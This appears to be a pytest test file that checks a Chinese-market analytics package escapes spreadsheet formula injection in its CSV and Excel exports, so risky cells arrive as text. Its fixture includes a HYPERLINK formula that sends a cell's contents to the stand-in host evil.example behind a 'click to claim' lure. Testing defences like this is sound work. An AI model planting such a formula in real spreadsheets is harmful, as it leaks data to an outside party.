"""Exports are safe to open: text a spreadsheet would run as a formula arrives inert, numbers as numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook

from wanghong.analytics.tables import export_csv, export_xlsx

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"点击领取")'


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "brand": [LINK, "+86 热线", "-折扣", "@所有人", "\tTab", "\rCR", "鲜优品", None],
            "gmv_growth": [-0.25, 1.5, -3.0, 0.0, 2.0, 0.5, 0.1, -1.0],
            "orders": [-1, 2, 3, 4, 5, 6, 7, 8],
        }
    )


def test_csv_cells_that_would_run_as_formulas_are_prefixed(tmp_path: Path) -> None:
    path = export_csv(_frame(), tmp_path / "brands.csv", chinese=False)
    # Decoded from bytes: reading as text would translate the lone CR inside a quoted cell into a newline.
    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    expected = [f"'{LINK}", "'+86 热线", "'-折扣", "'@所有人", "'\tTab", "'\rCR", "鲜优品", ""]
    assert [r["brand"] for r in rows] == expected
    # Numbers, negative ones included, are written as the numbers they are.
    assert [r["gmv_growth"] for r in rows][:3] == ["-0.25", "1.5", "-3.0"]
    assert rows[0]["orders"] == "-1"


def test_csv_with_chinese_headers_is_neutralised_too() -> None:
    buffer = io.BytesIO()
    export_csv(_frame(), buffer)
    text = buffer.getvalue().decode("utf-8-sig")
    assert "品牌" in text.splitlines()[0]
    assert f"'{LINK}".replace('"', '""') in text and "\n=HYPERLINK" not in text


def test_xlsx_hyperlink_in_a_brand_name_is_text_not_a_formula(tmp_path: Path) -> None:
    path = export_xlsx({"品牌": _frame()}, tmp_path / "brands.xlsx")
    sheet = load_workbook(path)["品牌"]
    names = [sheet.cell(row=r, column=1) for r in range(2, 8)]
    assert all(cell.data_type == "s" for cell in names)  # "f" would be a formula Excel runs on opening
    assert names[0].value == f"'{LINK}"
    assert [cell.value for cell in names[1:4]] == ["'+86 热线", "'-折扣", "'@所有人"]
    assert sheet.cell(row=2, column=2).value == -0.25 and sheet.cell(row=2, column=3).value == -1
    assert sheet.cell(row=8, column=1).value == "鲜优品"
